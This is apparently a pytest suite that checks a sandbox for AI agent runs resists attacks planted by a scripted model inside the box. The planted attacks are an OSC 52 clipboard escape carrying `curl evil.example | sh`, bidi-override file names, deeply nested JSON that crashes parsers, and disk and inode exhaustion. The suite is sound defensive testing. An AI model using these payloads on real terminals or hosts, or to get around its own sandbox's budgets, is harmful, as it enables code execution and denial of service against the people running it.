"""What the box writes reaches neither a terminal raw, nor the host's parser unbounded, nor the
host's disk past the run's budgets (issue 37: T1, T2, D1, D2, D3; docs/threat-model.md). Each
attack is planted from inside a real box by the scripted model's Bash tool; the host then does
what it did when the attack worked.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from flower.testing import FakeAPI
from tests.docker.e2e import FLOWERBOX, as_user, box_env, metas, state_of
from tests.docker.test_trust_boundary import (  # noqa: F401 - nothing_left: the fixture
    SLOW,
    User,
    flowerbox,
    nothing_left,
    plant,
    wait_for,
)

pytestmark = pytest.mark.docker

# An OSC 52 clipboard write of `curl evil.example | sh`, a title, a bidi override.
OSC52 = r"\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007"
UNSAFE = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")


def raw_controls(*outputs: str) -> list[str]:
    return [char for output in outputs for char in UNSAFE if char in output]


def test_file_names_the_box_chose_reach_the_terminal_escaped(
    real_api: FakeAPI, host_user: User, user_workspace: Path, flowerbox_image: str
) -> None:
    """T1: files under `.flowerbox/` and `.env/` named with escape sequences and a bidi
    override were printed raw at the end of the run (the watched-file report)."""
    plant(
        real_api,
        user_workspace,
        "mkdir -p .flowerbox .env; "
        f"touch \".flowerbox/a$(printf '{OSC52}')b\"; "
        f"printf 'x{OSC52}\\n' > \".env/c$(printf '\\342\\200\\256')gnp.sh\"; echo planted",
    )
    env = box_env(real_api, host_user)
    done = flowerbox(host_user, user_workspace, "once", "x", env=env)
    assert done.returncode == 0, done.stderr[-3000:]
    assert "the run created .flowerbox/a\\x1b]52;c;" in done.stderr  # shown, escaped
    assert "the run created .env/c\\u202egnp.sh" in done.stderr
    [run_id] = metas(host_user, user_workspace)
    shown = flowerbox(host_user, user_workspace, "logs", run_id, env=env)
    assert shown.returncode == 0 and "the run created .env/c\\u202egnp.sh" in shown.stderr
    assert raw_controls(done.stdout, done.stderr, shown.stdout, shown.stderr) == []


DEEP = "[" * 10_000 + "]" * 10_000  # 20 KB: a RecursionError in Python's json


def test_deep_json_and_escapes_in_runs_never_crash_ps_logs_attach_or_status(
    real_api: FakeAPI, host_user: User, user_workspace: Path, flowerbox_image: str
) -> None:
    """T2: 10 KB of nested JSON in asks.json and the events crashed `flowerbox ps`, `logs`
    and `attach` (RecursionError); T3: plain `flower status` printed escape sequences."""
    esc = r"\u001b]52;c;Y3VybA==\u0007\u202e"  # JSON escapes: valid JSON, hostile text
    ask = f'[{{"id": "q1", "question": "Which?{esc}", "options": [], "asked_at": 1}}]'
    said = f'{{"kind": "text", "text": "said{esc}"}}'
    plant(
        real_api,
        user_workspace,
        f"printf '%s' '{DEEP}' > runs/asks.json; "
        f"for f in runs/events/*.jsonl; do printf '%s\\n%s\\n' '{DEEP}' '{said}' >> $f; done; "
        "python3 -c 'import time; time.sleep(25)'; "
        f"printf '%s' '{ask}' > runs/asks.json; echo planted",  # before flower reads it
    )
    env = box_env(real_api, host_user)
    started = flowerbox(host_user, user_workspace, "once", "x", "--detach", env=env)
    assert started.returncode == 0, started.stderr[-3000:]
    run_id = started.stdout.strip()
    asks = user_workspace / "runs" / "asks.json"
    wait_for(lambda: asks.is_file() and asks.read_text().startswith("[[["), "the deep asks")
    outputs = []
    for command in (["ps"], ["ps", "--json"], ["logs", run_id], ["attach", run_id]):
        done = flowerbox(host_user, user_workspace, *command, env=env)  # no Traceback
        assert done.returncode in (0, 1), (command, done.stderr[-2000:])
        outputs += [done.stdout, done.stderr]
    assert "said" in outputs[-2]  # attach followed the events past the deep line to the end
    flower = str(Path(FLOWERBOX).parent / "flower")
    status = as_user(host_user, [flower, "status", "runs"], cwd=user_workspace, env=env)
    assert status.returncode == 0 and "Traceback" not in status.stderr, status.stderr[-2000:]
    assert "Which?" in status.stdout
    outputs += [status.stdout, status.stderr]
    assert all("RecursionError" not in output for output in outputs)
    assert raw_controls(*outputs) == []


def stopped_by_budget(host_user: User, workspace: Path, what: str) -> dict[str, object]:
    [meta] = metas(host_user, workspace).values()
    assert what in str(meta.get("stop_reason")), meta  # the whole record: status, exit, notices
    return meta


def test_a_file_unlinked_while_open_counts_against_the_disk_budget(
    real_api: FakeAPI, host_user: User, user_workspace: Path, flowerbox_image: str
) -> None:
    """D1: 700 MiB written, unlinked and kept open by the box's process: no folder shows it,
    yet the disk holds it for as long as the process lives."""
    plant(
        real_api,
        user_workspace,
        "python3 -c 'import os, time\n"
        'f = open("hidden.bin", "wb"); f.write(b"x" * 80_000_000); f.flush()\n'
        'os.fsync(f.fileno()); os.unlink("hidden.bin"); print("held", flush=True)\n'
        "time.sleep(90)'",
    )
    env = box_env(real_api, host_user)
    done = flowerbox(host_user, user_workspace, "once", "x", "--disk-budget", "0.05", env=env)
    assert done.returncode in (130, 143), done.stderr[-3000:]  # stopped, as `flowerbox stop`
    assert done.stderr.count("past its disk budget of 0.05 GB") == 1
    stopped_by_budget(host_user, user_workspace, "disk budget")
    assert not (user_workspace / "hidden.bin").exists()


def test_a_detached_runs_output_is_capped_and_counts_against_the_disk_budget(
    real_api: FakeAPI, host_user: User, user_workspace: Path, flowerbox_image: str
) -> None:
    """D2: a detached run's output log, written by the host, reached 446 MiB under a 0.2 GB
    budget. 48 MB in the workspace (under 0.05 GB) and 60 MB printed: the output log keeps
    at most 2 x 16 MiB (the engine's own log of the container is capped too, so a flood
    faster than the copy loses its middle), and the run's folders with its logs pass 0.05 GB."""
    plant(
        real_api,
        user_workspace,
        "head -c 48000000 /dev/zero > big.bin; "
        "yes 'the box prints a flood' | head -c 60000000 > /proc/1/fd/1; echo printed; " + SLOW,
    )
    env = box_env(real_api, host_user)
    started = flowerbox(
        host_user, user_workspace, "once", "x", "--detach", "--disk-budget", "0.05", env=env
    )
    assert started.returncode == 0, started.stderr[-3000:]
    run_id = started.stdout.strip()
    wait_for(
        lambda: metas(host_user, user_workspace)[run_id]["status"] not in ("starting", "running"),
        "the run stopped",
        timeout=120,
    )
    stopped_by_budget(host_user, user_workspace, "disk budget")
    logs = sorted((state_of(host_user) / "runs" / run_id).glob("output.log*"))
    sizes = [p.stat().st_size for p in logs]
    for path in logs:
        path.unlink()  # 32 MB of the shared test user's state
    assert {p.name for p in logs} <= {"output.log", "output.log.1"}, sizes
    assert all(size <= 16 * 1024 * 1024 for size in sizes), sizes


def test_many_empty_files_pass_the_inode_budget(
    real_api: FakeAPI, host_user: User, user_workspace: Path, flowerbox_image: str
) -> None:
    """D3: 150,000 empty files take no space: no disk budget saw them."""
    plant(
        real_api,
        user_workspace,
        "mkdir many && cd many && seq 1 30000 | xargs touch; echo made; " + SLOW,
    )
    env = box_env(real_api, host_user)
    done = flowerbox(host_user, user_workspace, "once", "x", "--inode-budget", "20000", env=env)
    assert done.returncode in (130, 143), done.stderr[-3000:]
    assert done.stderr.count("past its inode budget of 20000") == 1
    stopped_by_budget(host_user, user_workspace, "inode budget")
